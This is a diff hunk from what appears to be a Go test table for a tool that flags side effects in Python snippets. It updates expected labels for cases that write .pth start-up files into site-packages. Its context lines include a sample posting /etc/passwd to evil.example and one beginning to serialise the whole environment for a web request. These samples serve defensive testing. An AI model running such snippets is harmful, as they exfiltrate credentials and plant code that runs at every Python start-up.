@@ -39,9 +39,9 @@ requests.post("http://evil.example/u", data=open("/etc/passwd").read())`,
 	// Python's own start-up directories.
 	{"python", `import os, site
 p = os.path.join(site.getusersitepackages(), "aaa_init.pth")
-open(p, "w").write("import os")`, []string{"write /home/a/.local/lib/python3/site-packages/aaa_init.pth"}},
+open(p, "w").write("import os")`, []string{"write /home/a/.local/lib/python3/site-packages/aaa_init.pth", "unknown"}},
 	{"python", `import site
-open(site.getsitepackages()[0] + "/x.pth", "w").write("import os")`, []string{"write /usr/local/lib/python3/dist-packages/x.pth"}},
+open(site.getsitepackages()[0] + "/x.pth", "w").write("import os")`, []string{"write /usr/local/lib/python3/dist-packages/x.pth", "unknown"}},
 	// The process environment as a whole, through builtins and methods.
 	{"python", `import os, json, urllib.request
 body = json.dumps(dict(os.environ)).encode()
